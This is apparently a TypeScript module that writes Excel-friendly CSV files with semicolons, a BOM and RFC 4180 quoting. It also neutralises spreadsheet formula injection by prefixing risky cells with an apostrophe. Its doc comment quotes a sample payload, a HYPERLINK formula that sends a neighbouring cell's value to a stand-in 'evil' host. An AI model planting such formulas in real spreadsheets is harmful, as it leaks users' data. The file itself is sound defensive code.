/**
 * The one CSV writer of the service (reports, code slips): for spreadsheets in a Russian office: `;`
 * between fields (Excel's default where the decimal sign is a comma), CRLF line ends, RFC 4180
 * quoting, and a UTF-8 byte order mark so that Excel reads Cyrillic correctly when the file is
 * opened with a double click.
 *
 * Formula injection: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
 * would be run as a formula by Excel or LibreOffice (`=HYPERLINK("http://evil/?"&C2, "…")` sends the
 * code in the next cell away). Such cells get a leading `'`, which spreadsheets show as text. Numbers
 * (and text that is a plain number, "-3" or "4,25") stay numbers.
 */
export type CsvCell = string | number | null | undefined;

export function toCsv(rows: ReadonlyArray<ReadonlyArray<CsvCell>>): Buffer {
  const text = rows.map((row) => row.map(csvField).join(";")).join("\r\n") + "\r\n";
  return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, "utf8")]);
}

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+([.,]\d+)?$/;

/** The cell as a spreadsheet must see it: text that would start a formula is made plain text. */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

function csvField(value: CsvCell): string {
  const text = value === null || value === undefined ? "" : typeof value === "number" ? String(value) : neutralizeFormula(value);
  return /[";\r\n]/.test(text) || /^\s|\s$/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}
